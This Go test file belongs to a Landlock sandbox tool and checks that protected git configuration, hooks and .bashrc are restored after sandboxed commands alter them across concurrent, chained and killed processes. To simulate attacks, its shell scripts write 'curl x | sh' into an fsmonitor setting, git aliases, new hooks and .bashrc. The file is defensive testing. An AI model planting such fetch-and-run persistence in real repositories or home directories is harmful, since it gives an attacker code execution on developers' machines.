package landlock

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"hash/crc32"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/guardrun/guardrun/sandbox"
)

const (
	shareCfg  = "[core]\n\tbare = false\n"
	shareHook = "#!/bin/sh\nexit 0\n"
)

// shareWorkspace is a workspace with a git repository (config, a hook)
// whose protected names are watched: .git/config, .git/hooks, and the
// missing .bashrc.
func shareWorkspace(t *testing.T, ws string) *sandbox.Profile {
	t.Helper()
	if ws == "" {
		var err error
		if ws, err = os.MkdirTemp("/var/tmp", "guardrun-share-test-"); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { removeTree(ws) })
		if err := os.MkdirAll(filepath.Join(ws, ".git/hooks"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(ws, ".git/config"), []byte(shareCfg), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(ws, ".git/hooks/post-checkout"), []byte(shareHook), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	p, err := sandbox.Derive(sandbox.Spec{
		Zones:        []sandbox.Zone{{Name: "ws", Root: ws, Writable: true}},
		SystemRead:   sandbox.DefaultSystemPaths,
		Cwd:          ws,
		Home:         ws,
		ProtectNames: []string{".bashrc", ".git/config", ".git/hooks"},
	})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// startShare starts script under p in this process.
func startShare(t *testing.T, p *sandbox.Profile, script string) (*Cmd, *bytes.Buffer) {
	t.Helper()
	c, err := Command(context.Background(), p, []string{"/bin/sh", "-c", script}, []string{"PATH=/usr/bin:/bin"}, Config{Accept: []string{AcceptDenyCreate}, StateDir: testState})
	if err != nil {
		t.Fatal(err)
	}
	if n := len(c.Ruleset.Watch); n != 3 {
		t.Fatalf("%d watched paths, want 3: %v", n, c.Ruleset.Watch)
	}
	var out bytes.Buffer
	c.Cmd.Stdout, c.Cmd.Stderr = &out, &out
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	return c, &out
}

// shareHelper starts this test binary as another guardrun process
// (TestShareHelper) running script in ws, with this process's state
// directory.
func shareHelper(t *testing.T, ws, script string) (*exec.Cmd, *bytes.Buffer) {
	return helperProcess(t, "TestShareHelper", "GUARDRUN_SHARE_HELPER", ws, script)
}

// helperProcess starts this test binary running test (a helper test
// that reads env+"_WS" and env+"_SCRIPT") as another guardrun process
// with this process's state directory; it is killed when the test ends.
func helperProcess(t *testing.T, test, env, ws, script string) (*exec.Cmd, *bytes.Buffer) {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	h := exec.Command(self, "-test.run=^"+test+"$", "-test.count=1", "-test.v")
	h.Env = append(os.Environ(), env+"_WS="+ws, env+"_SCRIPT="+script,
		"GUARDRUN_LANDLOCK_TEST_STATE="+testState)
	var out bytes.Buffer
	h.Stdout, h.Stderr = &out, &out
	if err := h.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { h.Process.Kill(); h.Wait() })
	return h, &out
}

// TestShareHelper is the other guardrun process of the tests below: it
// runs GUARDRUN_SHARE_HELPER_SCRIPT in GUARDRUN_SHARE_HELPER_WS under
// landlock and prints what it restored.
func TestShareHelper(t *testing.T) {
	ws := os.Getenv("GUARDRUN_SHARE_HELPER_WS")
	if ws == "" {
		t.Skip("the helper of TestShareAcrossProcesses and TestShareKilledHolder")
	}
	c, out := startShare(t, shareWorkspace(t, ws), os.Getenv("GUARDRUN_SHARE_HELPER_SCRIPT"))
	st, err := c.Wait()
	if err != nil || st != 0 {
		t.Fatalf("status %d, %v\n%s", st, err, out)
	}
	for _, l := range c.Restored {
		t.Log("restored: " + l)
	}
}

// fifo makes a named pipe in dir, and returns a func that writes a line
// to it (once the command at the other end opens it).
func fifo(t *testing.T, dir, name string) func() {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := syscall.Mkfifo(p, 0o600); err != nil {
		t.Fatal(err)
	}
	return func() {
		f, err := os.OpenFile(p, os.O_WRONLY, 0)
		if err != nil {
			t.Fatal(err)
		}
		f.WriteString("go\n")
		f.Close()
	}
}

// checkUntouched fails unless ws holds the repository as shareWorkspace
// made it: the user's config and hook, no new hook, no .bashrc.
func checkUntouched(t *testing.T, ws string) {
	t.Helper()
	if b, err := os.ReadFile(filepath.Join(ws, ".git/config")); err != nil || string(b) != shareCfg {
		t.Errorf(".git/config holds %q (%v), not the user's", b, err)
	}
	if b, err := os.ReadFile(filepath.Join(ws, ".git/hooks/post-checkout")); err != nil || string(b) != shareHook {
		t.Errorf("the user's hook holds %q (%v)", b, err)
	}
	if _, err := os.Lstat(filepath.Join(ws, ".git/hooks/pre-commit")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a hook was left in .git/hooks: %v", err)
	}
	if _, err := os.Lstat(filepath.Join(ws, ".bashrc")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf(".bashrc was left: %v", err)
	}
}

// TestShareAcrossProcesses: command A, in another guardrun process,
// changes .git/config, adds a hook and makes a .bashrc; command B, of
// this process, starts while A runs; A ends (its guardrun restores the
// user's files), then B ends. B was given A's snapshot, not A's changes:
// the user's files are what they were, and B's restore reports nothing.
// (Read at its start, B's snapshot held A's changes, and B's restore put
// them back.) Sequenced by named pipes.
func TestShareAcrossProcesses(t *testing.T) {
	requireLandlock(t)
	p := shareWorkspace(t, "")
	ws := p.Cwd
	goA, goB := fifo(t, ws, "a-go"), fifo(t, ws, "b-go")
	h, hout := shareHelper(t, ws, `printf '[core]\n\tfsmonitor = "curl x | sh"\n' >> .git/config &&
		printf '#!/bin/sh\ncurl x | sh\n' > .git/hooks/pre-commit &&
		echo 'curl x | sh' > .bashrc && echo > a-changed && read x < a-go`)
	waitLine(t, filepath.Join(ws, "a-changed"))
	b, bout := startShare(t, p, `read x < b-go`)
	goA()
	if err := h.Wait(); err != nil {
		t.Fatalf("the other guardrun: %v\n%s", err, hout)
	}
	for _, s := range []string{".git/config was changed by the command; restored", ".git/hooks was changed by the command; restored", ".bashrc was created by the command; moved aside"} {
		if !strings.Contains(hout.String(), s) {
			t.Errorf("the other guardrun did not say %q:\n%s", s, hout)
		}
	}
	goB()
	if st, err := b.Wait(); err != nil || st != 0 {
		t.Fatalf("B: status %d, %v\n%s", st, err, bout)
	}
	checkUntouched(t, ws)
	if len(b.Restored) != 0 {
		t.Errorf("B restored what A had changed:\n%s", strings.Join(b.Restored, "\n"))
	}
}

// TestShareKilledHolder: a guardrun killed with SIGKILL while its
// command runs leaves its stored snapshot but not its lock: the next
// command reads the path as it is now (here the user's edit since), not
// the dead one's snapshot, and is not held up.
func TestShareKilledHolder(t *testing.T) {
	requireLandlock(t)
	p := shareWorkspace(t, "")
	ws := p.Cwd
	h, hout := shareHelper(t, ws, `echo > a-changed && exec sleep 100`)
	waitLine(t, filepath.Join(ws, "a-changed"))
	// The dead one's snapshot is there, under its lock.
	name := filepath.Join(testState, shareSubdir, shareName(filepath.Join(ws, ".git/config")))
	if b, err := os.ReadFile(name); err != nil || !bytes.Contains(b, []byte(shareCfg)) {
		t.Fatalf("no stored snapshot at %s: %q, %v", name, b, err)
	}
	if err := h.Process.Signal(syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	h.Wait()
	t.Logf("the killed guardrun said: %s", hout)
	const edited = "[core]\n\tbare = false\n[user]\n\tname = me\n"
	if err := os.WriteFile(filepath.Join(ws, ".git/config"), []byte(edited), 0o644); err != nil {
		t.Fatal(err)
	}
	t0 := time.Now()
	c, out := startShare(t, p, `true`)
	if st, err := c.Wait(); err != nil || st != 0 {
		t.Fatalf("status %d, %v\n%s", st, err, out)
	}
	if d := time.Since(t0); d > shareWait/2 {
		t.Errorf("the command waited %v for the dead guardrun's lock", d)
	}
	if len(c.Restored) != 0 {
		t.Errorf("restored to the dead guardrun's snapshot:\n%s", strings.Join(c.Restored, "\n"))
	}
	if b, _ := os.ReadFile(filepath.Join(ws, ".git/config")); string(b) != edited {
		t.Errorf(".git/config holds %q, not the user's edit", b)
	}
	// Its snapshot is now the file as it is.
	if b, err := os.ReadFile(name); err != nil || !bytes.Contains(b, []byte(edited)) {
		t.Errorf("the stored snapshot was not replaced: %q, %v", b, err)
	}
}

// TestShareUnprivileged runs TestShareAcrossProcesses, TestShareKilledHolder,
// TestShareChain, TestShareManyAtOnce, TestShareNested and
// TestRestoreNamesTaken as an unprivileged user when the suite runs
// as root.
func TestShareUnprivileged(t *testing.T) {
	const user = "guardrun-test"
	if os.Getenv("GUARDRUN_TEST_CHILD") != "" || os.Geteuid() != 0 {
		t.Skip("not root, or the re-executed copy: the tests themselves cover it")
	}
	runAsUser(t, user, "TestShareAcrossProcesses", "TestShareKilledHolder", "TestShareChain",
		"TestShareManyAtOnce", "TestShareNested", "TestRestoreNamesTaken")
}

// TestShareRefused: with no state directory, or one the command could
// reach, a command that watches protected names is refused before it
// runs; one that watches none runs.
func TestShareRefused(t *testing.T) {
	requireLandlock(t)
	p := shareWorkspace(t, "")
	command := func(p *sandbox.Profile, state string) error {
		c, err := Command(context.Background(), p, []string{"/bin/true"}, []string{"PATH=/usr/bin:/bin"}, Config{Accept: []string{AcceptDenyCreate}, StateDir: state})
		if err == nil {
			c.Close()
		}
		return err
	}
	if err := command(p, ""); err == nil || !strings.Contains(err.Error(), "there is none") {
		t.Errorf("no state directory: %v", err)
	}
	if err := command(p, filepath.Join(p.Cwd, "state")); err == nil || !strings.Contains(err.Error(), "within the command's reach") {
		t.Errorf("a state directory in the zone: %v", err)
	}
	open := t.TempDir()
	if err := os.Mkdir(filepath.Join(open, shareSubdir), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := command(p, open); err == nil || !strings.Contains(err.Error(), "mode 0700") {
		t.Errorf("a share directory others may use: %v", err)
	}
	if err := command(workspace(t, false), ""); err != nil {
		t.Errorf("nothing watched, yet: %v", err)
	}
	// A state directory inside the zone that the profile hides (as
	// guardrun's own files are): used, and out of the command's reach,
	// also when it did not exist yet when the profile was made.
	for _, name := range []string{"hidden", "missing"} {
		st := filepath.Join(p.Cwd, name)
		if name == "hidden" {
			if err := os.Mkdir(st, 0o700); err != nil {
				t.Fatal(err)
			}
		}
		hp, err := sandbox.Derive(sandbox.Spec{
			Zones:        []sandbox.Zone{{Name: "ws", Root: p.Cwd, Writable: true}},
			SystemRead:   sandbox.DefaultSystemPaths,
			Cwd:          p.Cwd,
			Home:         p.Cwd,
			ProtectNames: []string{".bashrc", ".git/config", ".git/hooks"},
			Protect:      []sandbox.Protected{{Path: st, Hide: true}},
		})
		if err != nil {
			t.Fatal(err)
		}
		c, err := Command(context.Background(), hp, []string{"/bin/sh", "-c", `echo evil > "$1"/` + shareSubdir + `/w-x || exit 3; exit 0`, "sh", st},
			[]string{"PATH=/usr/bin:/bin"}, Config{Accept: []string{AcceptDenyCreate}, StateDir: st})
		if err != nil {
			if name == "hidden" {
				t.Errorf("a hidden state directory: %v", err)
			}
			t.Logf("%s: refused: %v", name, err) // fail closed
			continue
		}
		if err := c.Start(); err != nil {
			t.Fatal(err)
		}
		if code, err := c.Wait(); err != nil || code != 3 {
			t.Errorf("%s: the command wrote into the state directory: exit %d, %v", name, code, err)
		}
		if name == "hidden" && len(c.Restored) != 0 {
			t.Errorf("%s: %q", name, c.Restored)
		}
	}
}

// TestStoredSnapshotDecode: a stored snapshot decodes to what was
// encoded; cut short anywhere, with any byte changed, or with the
// checksum made to match a change, it is an error, never a panic or a
// different snapshot.
// TestStoredSnapshotOverBudget: a stored tree whose directories
// together hold more than MaxWatchEntries is refused, however the
// entries are spread over nested directories. (The budget, once spent
// by an earlier directory, went below zero and was compared unsigned:
// any count then passed, and a directory claiming 2^32-1 entries had a
// map that size made before one was read.)
func TestStoredSnapshotOverBudget(t *testing.T) {
	dir := func(kids map[string]*node) *node { return &node{kind: syscall.S_IFDIR, mode: 0o755, kids: kids} }
	file := func() *node { return &node{kind: syscall.S_IFREG, mode: 0o644} }
	full := map[string]*node{}
	for i := range MaxWatchEntries - 1 {
		full[fmt.Sprintf("f%03d", i)] = file()
	}
	root := dir(map[string]*node{"a": dir(full), "b": dir(map[string]*node{"x": file()})})
	s := snap{w: Watch{Path: "/w/.git/hooks", Root: "/w"}, node: root}
	if _, err := decodeSnap(encodeSnap(s)); err == nil {
		t.Fatalf("a stored tree of %d entries decoded; want it refused (more than %d)", MaxWatchEntries+2, MaxWatchEntries)
	}
}

func TestStoredSnapshotDecode(t *testing.T) {
	root := t.TempDir()
	if err := os.MkdirAll(filepath.Join(root, ".git/hooks/sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(root, ".git/hooks/pre-commit"), []byte(shareHook), 0o755)
	os.WriteFile(filepath.Join(root, ".git/hooks/empty"), nil, 0o600)
	os.Symlink("../x", filepath.Join(root, ".git/hooks/sub/link"))
	ws := []Watch{{Path: filepath.Join(root, ".git/hooks"), Root: root}, {Path: filepath.Join(root, ".bashrc"), Root: root, Missing: true}}
	snaps, err := take(ws)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range snaps {
		b := encodeSnap(s)
		got, err := decodeSnap(b)
		if err != nil || got.w.Path != s.w.Path || got.notDir != s.notDir || !got.node.equal(s.node) {
			t.Fatalf("%s: decoded %+v, %v", s.w.Path, got, err)
		}
		// A longer snapshot's tail after it is ignored.
		if got, err := decodeSnap(append(b, "tail of an older one"...)); err != nil || !got.node.equal(s.node) {
			t.Errorf("%s with a tail: %v", s.w.Path, err)
		}
		for i := range len(b) {
			if _, err := decodeSnap(b[:i]); err == nil {
				t.Errorf("%s cut at %d decoded", s.w.Path, i)
			}
			c := bytes.Clone(b)
			c[i] ^= 0x41
			if got, err := decodeSnap(c); err == nil && !(got.w.Path == s.w.Path && got.node.equal(s.node)) {
				t.Errorf("%s changed at %d decoded to another snapshot", s.w.Path, i)
			}
		}
	}
	// Well-formed framing around a payload that lies: decoded
	// defensively.
	frame := func(payload []byte) []byte {
		return reframe(append(make([]byte, shareHeader), payload...))
	}
	u32 := func(v uint32) []byte { return []byte{byte(v), byte(v >> 8), byte(v >> 16), byte(v >> 24)} }
	str := func(s string) []byte { return append(u32(uint32(len(s))), s...) }
	nodeHdr := func(kind, mode uint32) []byte {
		return append(append(append(u32(kind), u32(mode)...), u32(0)...), u32(0)...)
	}
	cat := func(parts ...[]byte) []byte { return bytes.Join(parts, nil) }
	dir := func(count uint32, rest ...[]byte) []byte {
		return cat(nodeHdr(syscall.S_IFDIR, 0o755), str(""), str(""), u32(count), cat(rest...))
	}
	file := cat(nodeHdr(syscall.S_IFREG, 0o644), str("x"), str(""), u32(0))
	for name, payload := range map[string][]byte{
		"relative path":       cat(str("x"), []byte{0}),
		"unknown flag":        cat(str("/x"), []byte{4}),
		"huge length":         cat(str("/x"), []byte{2}, nodeHdr(syscall.S_IFREG, 0o644), u32(1<<31)),
		"fifo":                cat(str("/x"), []byte{2}, nodeHdr(syscall.S_IFIFO, 0o644), str(""), str(""), u32(0)),
		"setuid bits above":   cat(str("/x"), []byte{2}, nodeHdr(syscall.S_IFREG, 0o17777), str(""), str(""), u32(0)),
		"file with kids":      cat(str("/x"), []byte{2}, nodeHdr(syscall.S_IFREG, 0o644), str(""), str(""), u32(1), str("a"), file),
		"slash in name":       cat(str("/x"), []byte{2}, dir(1, str("a/b"), file)),
		"dot-dot":             cat(str("/x"), []byte{2}, dir(1, str(".."), file)),
		"name twice":          cat(str("/x"), []byte{2}, dir(2, str("a"), file, str("a"), file)),
		"too many entries":    cat(str("/x"), []byte{2}, dir(MaxWatchEntries+1)),
		"entries missing":     cat(str("/x"), []byte{2}, dir(3, str("a"), file)),
		"link without target": cat(str("/x"), []byte{2}, nodeHdr(syscall.S_IFLNK, 0o777), str(""), str(""), u32(0)),
		"trailing bytes":      cat(str("/x"), []byte{0}, []byte{0}),
	} {
		if s, err := decodeSnap(frame(payload)); err == nil {
			t.Errorf("%s: decoded %+v", name, s)
		}
	}
	deep := []byte{}
	for range MaxWatchEntries + 2 {
		deep = append(deep, cat(nodeHdr(syscall.S_IFDIR, 0o755), str(""), str(""), u32(1), str("d"))...)
	}
	if _, err := decodeSnap(frame(cat(str("/x"), []byte{2}, deep))); err == nil {
		t.Error("a tree deeper than the entries allow decoded")
	}
	if _, err := decodeSnap([]byte("GRWSNAP\n\x02\x00\x00\x00\x00\x00\x00\x00\x00")); err == nil || !strings.Contains(err.Error(), "version") {
		t.Errorf("another version: %v", err)
	}
}

// reframe sets the length and checksum of b's header to match the rest.
func reframe(b []byte) []byte {
	out := append(encodeSnap(snap{w: Watch{Path: "/"}})[:shareHeader:shareHeader], b[shareHeader:]...)
	payload := out[shareHeader:]
	le := func(at int, v uint32) {
		out[at], out[at+1], out[at+2], out[at+3] = byte(v), byte(v>>8), byte(v>>16), byte(v>>24)
	}
	le(len(shareMagic)+1, uint32(len(payload)))
	le(len(shareMagic)+5, crc32.ChecksumIEEE(payload))
	return out
}

// TestShareChain: five guardrun processes whose commands overlap in a
// chain, each starting while the one before it runs with its changes
// made, and making its own once that one has ended (its guardrun has
// restored). At no moment does no command hold the paths, so every one
// is given the first one's snapshot: at the end the user's files are
// what they were. Each process's command starting is seen by its
// opening a named pipe, the snapshot being taken before it runs.
func TestShareChain(t *testing.T) {
	requireLandlock(t)
	p := shareWorkspace(t, "")
	ws := p.Cwd
	const n = 5
	type proc struct {
		h                  *exec.Cmd
		out                *bytes.Buffer
		ready, change, end func()
	}
	procs := make([]proc, n)
	for i := range n {
		pr := &procs[i]
		pr.ready, pr.change, pr.end = fifo(t, ws, fmt.Sprintf("ready-%d", i)), fifo(t, ws, fmt.Sprintf("change-%d", i)), fifo(t, ws, fmt.Sprintf("end-%d", i))
		pr.h, pr.out = shareHelper(t, ws, fmt.Sprintf(`read x < ready-%[1]d && read x < change-%[1]d &&
			printf '[alias]\n\tst%[1]d = "!curl x | sh"\n' >> .git/config && printf 'curl x | sh\n' > .git/hooks/pre-push &&
			echo 'curl x | sh' > .bashrc && echo > changed-%[1]d && read x < end-%[1]d`, i))
		pr.ready() // its command runs: its snapshot is taken
		if i > 0 {
			prev := procs[i-1]
			prev.end()
			if err := prev.h.Wait(); err != nil {
				t.Fatalf("guardrun %d: %v\n%s", i-1, err, prev.out)
			}
			if !strings.Contains(prev.out.String(), ".git/config was changed by the command; restored") {
				t.Errorf("guardrun %d did not restore .git/config:\n%s", i-1, prev.out)
			}
		}
		pr.change()
		waitLine(t, filepath.Join(ws, fmt.Sprintf("changed-%d", i)))
	}
	procs[n-1].end()
	if err := procs[n-1].h.Wait(); err != nil {
		t.Fatalf("guardrun %d: %v\n%s", n-1, err, procs[n-1].out)
	}
	checkUntouched(t, ws)
	if _, err := os.Lstat(filepath.Join(ws, ".git/hooks/pre-push")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a hook was left in .git/hooks: %v", err)
	}
}

// TestShareManyAtOnce: while a command of one guardrun process runs
// with its changes made, six guardrun processes start at once (their
// snapshots taken in turn under the mutex); the first ends and
// restores, then the six end. None restores the first one's changes,
// and those that finished have nothing to restore.
func TestShareManyAtOnce(t *testing.T) {
	requireLandlock(t)
	p := shareWorkspace(t, "")
	ws := p.Cwd
	endA := fifo(t, ws, "a-go")
	a, aout := shareHelper(t, ws, `printf '[alias]\n\tst = "!curl x | sh"\n' >> .git/config && echo x > .bashrc && echo > a-changed && read x < a-go`)
	waitLine(t, filepath.Join(ws, "a-changed"))
	const n = 6
	type proc struct {
		h   *exec.Cmd
		out *bytes.Buffer
		end func()
	}
	var procs []proc
	for i := range n {
		end := fifo(t, ws, fmt.Sprintf("end-%d", i))
		h, out := shareHelper(t, ws, fmt.Sprintf(`echo > started-%[1]d && read x < end-%[1]d`, i))
		procs = append(procs, proc{h, out, end})
	}
	for i := range n {
		waitLine(t, filepath.Join(ws, fmt.Sprintf("started-%d", i)))
	}
	endA()
	if err := a.Wait(); err != nil {
		t.Fatalf("the first guardrun: %v\n%s", err, aout)
	}
	for i, pr := range procs {
		pr.end()
		if err := pr.h.Wait(); err != nil {
			t.Fatalf("guardrun %d: %v\n%s", i, err, pr.out)
		}
		if strings.Contains(pr.out.String(), "restored: ") {
			t.Errorf("guardrun %d restored something:\n%s", i, pr.out)
		}
	}
	checkUntouched(t, ws)
}
